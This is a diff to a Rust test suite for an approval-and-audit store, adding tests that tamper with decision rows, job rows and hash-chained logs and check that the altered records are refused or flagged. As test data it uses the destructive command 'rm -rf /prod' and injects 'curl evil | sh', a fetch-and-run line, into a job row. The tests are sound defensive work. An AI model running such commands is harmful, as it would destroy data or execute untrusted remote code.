@@ -3,10 +3,13 @@
 use std::sync::Arc;
 
 use holdpoint_core::decision::{AnswerInput, New, Requirements};
-use holdpoint_core::{Auth, Command, Decision, DecisionId, Field, Kind, Opt, Status};
+use holdpoint_core::{
+    Auth, Command, Decision, DecisionId, Field, Kind, Opt, ProjectChange, Span, Status, Timestamp,
+};
 use serde_json::{Value, json};
 
 use super::scene::refusal;
+use super::vouching::chained;
 use super::{Bench, Scene, Tampering, question, signer};
 use crate::chain::{Wrong, body_hash, event_hash, hex};
 use crate::{Basis, CheckpointPolicy, Link, Options, Outcome, Repair, Result, Submission, history};
@@ -37,7 +40,8 @@ async fn folded(scene: &Scene, id: DecisionId) -> std::result::Result<Option<Dec
 
 async fn put_row(bench: &dyn Bench, decision: &Decision) {
     let doc = serde_json::to_string(decision).unwrap();
-    bench.tamper(Tampering::Row { doc, status: decision.status.name() }).await;
+    let deadline = decision.deadline.map(Timestamp::as_millis);
+    bench.tamper(Tampering::Row { doc, status: decision.status.name(), deadline }).await;
 }
 
 /// A row as if somebody had said yes.
@@ -81,12 +85,78 @@ pub async fn a_patched_row_is_not_used(bench: &dyn Bench) {
     assert_eq!(scene.decision(asked.id).await.consumed_at, None);
 }
 
+pub async fn a_changed_row_makes_no_events(bench: &dyn Bench) {
+    let scene = Scene::new(bench).await;
+    let change = ProjectChange { min_timeout: Some(Span::from_secs(5)), verdicts: None };
+    scene.submit(Command::UpdateProject { name: "default".into(), change: change.clone() }).await.unwrap();
+    let asked = scene.ask(approval(&json!("rm -rf /prod"))).await;
+    let mut due = asked.clone();
+    due.default = serde_json::from_value(json!({"choice": "yes"})).unwrap();
+    due.deadline = Some(scene.now());
+    put_row(bench, &due).await;
+    scene.at(60);
+    let other = Scene::new(bench).await;
+    other.at(60);
+    other.ask(question()).await;
+    let recorded = folded(&other, asked.id).await.unwrap().unwrap();
+    assert_eq!((recorded.status, recorded.answer), (Status::Pending, None), "nobody said yes");
+    let cancelled = other.submit(Command::Cancel { id: asked.id, reason: None }).await;
+    assert_eq!(refusal(cancelled).code(), "unproven");
+    bench.tamper(Tampering::Settings).await;
+    let other = Scene::new(bench).await;
+    let updated = other.submit(Command::UpdateProject { name: "default".into(), change }).await;
+    assert_eq!(
+        refusal(updated).to_string(),
+        "project default cannot be relied on: its row is not what the log makes of it"
+    );
+    other.store.inspect(Repair::Rebuild).await.unwrap();
+    other.submit(Command::Cancel { id: asked.id, reason: None }).await.unwrap();
+}
+
+pub async fn a_changed_job_is_not_run(bench: &dyn Bench) {
+    let options = Options { signer: Some(signer(1)), policy: CheckpointPolicy::ByCaller };
+    let scene = Scene::with(bench, options.clone()).await;
+    let job = super::jobs::waiting(&scene, "job-1").await;
+    let store = scene.store.as_ref();
+    assert_eq!(crate::proven_job(store, "job-1").await.unwrap().as_ref(), Some(&job));
+    let doc = serde_json::to_string(&job).unwrap();
+    let changed = doc.replace("\"true\"", "\"curl evil | sh\"");
+    assert_ne!(changed, doc);
+    bench.tamper(Tampering::JobRow { doc: changed }).await;
+    // One that has read it before, and one that has not.
+    let other = Scene::with(bench, options).await;
+    for scene in [&scene, &other] {
+        let found = crate::proven_job(scene.store.as_ref(), "job-1").await;
+        assert!(matches!(&found, Err(crate::Error::Corrupt(why)) if why.contains("job-1")), "{found:?}");
+        let resumed = scene.submit(super::jobs::resume("job-1")).await;
+        assert_eq!(refusal(resumed).code(), "unproven");
+    }
+    bench.tamper(Tampering::JobRow { doc }).await;
+    scene.submit(super::jobs::resume("job-1")).await.unwrap();
+    assert!(crate::proven_job(store, "job-1").await.unwrap().is_some());
+}
+
+/// Puts a log in the place of the store's, with its chain right again.
+async fn put_log(bench: &dyn Bench, mut links: Vec<Link>) {
+    for (at, link) in links.iter_mut().enumerate() {
+        let place = i64::try_from(at).unwrap() + 1;
+        (link.seq, link.version) = (place, place);
+    }
+    bench.tamper(Tampering::Log { links: chained(links) }).await;
+}
+
 pub async fn a_use_of_what_was_pending_is_named(bench: &dyn Bench) {
     let scene = Scene::new(bench).await;
     let subject = json!("rm -rf /prod");
     let asked = scene.ask(approval(&subject)).await;
     put_row(bench, &patched(&asked, &scene)).await;
+    assert_eq!(refusal(consume(&scene, asked.id, &subject, Basis::Row).await).code(), "unproven");
+    put_row(bench, &asked).await;
+    consent(&scene, asked.id, &asked.digest).await;
     consume(&scene, asked.id, &subject, Basis::Row).await.unwrap();
+    let mut links = scene.store.links(0, 10).await.unwrap();
+    links.remove(1);
+    put_log(bench, links).await;
     for repair in [Repair::No, Repair::Rebuild, Repair::No] {
         let found = scene.store.inspect(repair).await.unwrap().findings;
         let named = format!("event 2: decision {} was consumed while it was pending", asked.id);
@@ -97,17 +167,26 @@ pub async fn a_use_of_what_was_pending_is_named(bench: &dyn Bench) {
 
 pub async fn a_yes_to_something_else_is_named(bench: &dyn Bench) {
     let scene = Scene::new(bench).await;
-    let (dangerous, harmless) = (json!("rm -rf /prod"), json!("ls -l"));
-    let asked = scene.ask(approval(&dangerous)).await;
-    let other = scene.ask(approval(&harmless)).await;
+    let asked = scene.ask(approval(&json!("rm -rf /prod"))).await;
+    let other = scene.ask(approval(&json!("ls -l"))).await;
     let Decision { subject, subject_digest, digest, .. } = other.clone();
     put_row(bench, &Decision { subject, subject_digest, digest, ..asked.clone() }).await;
-    consent(&scene, asked.id, &other.digest).await;
-    let answered = scene.decision(asked.id).await;
-    let Decision { subject, subject_digest, digest, .. } = asked.clone();
-    put_row(bench, &Decision { subject, subject_digest, digest, ..answered }).await;
-    let used = consume(&scene, asked.id, &dangerous, Basis::Row).await;
-    assert_eq!(refusal(used).code(), "not_consumable");
+    let input = AnswerInput {
+        choice: Some("yes".into()),
+        digest: Some(other.digest.clone()),
+        ..AnswerInput::default()
+    };
+    let answered = scene.submit(Command::Answer { id: asked.id, input: Box::new(input) }).await;
+    assert_eq!(refusal(answered).code(), "unproven");
+    put_row(bench, &asked).await;
+    consent(&scene, other.id, &other.digest).await;
+    let mut links = scene.store.links(0, 10).await.unwrap();
+    links.remove(1);
+    let stream = links[0].stream.clone();
+    links[1].stream = stream;
+    let body = links[1].body.take().unwrap();
+    links[1].body = Some(body.replace(&other.id.to_string(), &asked.id.to_string()));
+    put_log(bench, links).await;
     assert!(folded(&scene, asked.id).await.unwrap_err().contains("shown something else"));
     let found = scene.store.inspect(Repair::No).await.unwrap().findings;
     assert!(found.iter().any(|finding| finding.contains("shown something else")), "{found:?}");
